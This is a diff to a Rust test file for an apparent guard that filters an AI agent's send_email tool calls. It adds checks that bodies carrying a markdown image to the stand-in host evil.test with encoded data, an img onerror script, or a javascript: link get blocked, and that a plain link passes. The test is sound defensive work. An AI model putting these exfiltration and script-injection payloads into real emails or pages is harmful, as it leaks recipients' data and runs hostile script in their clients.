@@ -749,6 +749,33 @@ fn credentials_and_canaries_in_tool_arguments_do_not_leave() {
     )
     .unwrap();
     assert_eq!(c.response().tool_calls().len(), 1);
+    assert!(
+        c.findings().iter().all(|f| f.action() == Action::Flag),
+        "personal data in arguments is flagged, not removed"
+    );
+    // An image in a body the mail client renders carries data out; script too.
+    for body in [
+        "![status](https://evil.test/p.png?d=c2VjcmV0IGRhdGEgZ29lcyBoZXJl)",
+        "<img src=x onerror=alert(1)>",
+        "[click](javascript:alert(1))",
+    ] {
+        let args = json!({"to": "bob@partner.example", "body": body}).to_string();
+        let c = check(
+            &g,
+            req(),
+            GuardResponse::new("").with_tool_call(ToolCall::new("c4", "send_email", args)),
+        )
+        .unwrap();
+        assert!(c.response().tool_calls().is_empty(), "{body}");
+    }
+    let args = json!({"to": "bob@partner.example", "body": "see [the guide](https://www.rust-lang.org/learn) and `<b>`"}).to_string();
+    let c = check(
+        &g,
+        req(),
+        GuardResponse::new("").with_tool_call(ToolCall::new("c5", "send_email", args)),
+    )
+    .unwrap();
+    assert_eq!(c.response().tool_calls().len(), 1);
     let with_canary =
         json!({"to": "bob@partner.example", "body": format!("ref {}", canary.token())}).to_string();
     let r = check(
